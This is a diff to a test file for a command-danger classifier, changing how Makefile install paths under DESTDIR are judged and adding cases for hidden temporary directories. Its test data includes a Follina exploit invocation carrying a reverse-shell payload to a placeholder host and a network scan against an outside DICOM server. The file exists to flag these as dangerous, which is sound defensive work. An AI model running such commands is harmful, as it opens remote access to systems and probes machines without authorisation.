@@ -3629,9 +3629,11 @@ describe('the six sets held out last stop and the hundred-and-second, -third and
     ['./run_cleaner.sh --dry-run --wipe-all', false],
     ['expliot run dicom.generic.c-find -r www.dicomserver.co.uk -p 104', true, 'other machines'],
     ['expliot list', false],
-    // A Makefile's install directories are the system's unless staged under DESTDIR.
+    // A Makefile's install directories are the system's, under a recipe's DESTDIR too (empty unless a
+    // packager sets it: the corpora label such recipes dangerous nineteen times to none); a DESTDIR set is judged where it is.
     ['install -d -m 755 $(MAN_DIR)/man1', true, 'outside the workspace'],
-    ['install -m 755 tool $(DESTDIR)$(PREFIX)/bin', false],
+    ['install -m 755 tool $(DESTDIR)$(PREFIX)/bin', true, 'outside the workspace'],
+    ['DESTDIR="$(pwd)/DESTDIR" meson install -C _build', false],
     // A placeholder joined to the path after it; a host whose name only starts like an attacker's.
     ['cp examples/bind/test.zone <fuzzing_directory>/bind/dist/etc/', false],
     ['git clone git://evilpiepirate.org/ktest.git', false],
@@ -4006,6 +4008,10 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     // The tools' own homes a command prints lie in the home; going there reads nothing.
     ['git clone https://github.com/pyenv/pyenv-virtualenv.git $(pyenv root)/plugins/pyenv-virtualenv', true, 'home directory'],
     ['cd $(go env GOPATH)/src/github.com/gomods', false],
+    // A hidden place in the shared temporary directory; the display server's socket directory is the system's.
+    ['mkdir /var/tmp/.system', true, 'hidden place'],
+    ['ls /tmp/.X11-unix', false],
+    ['install -Dm600 data/rules/* $(DESTDIR)/etc/opensnitchd/rules/', true, 'outside the workspace'],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
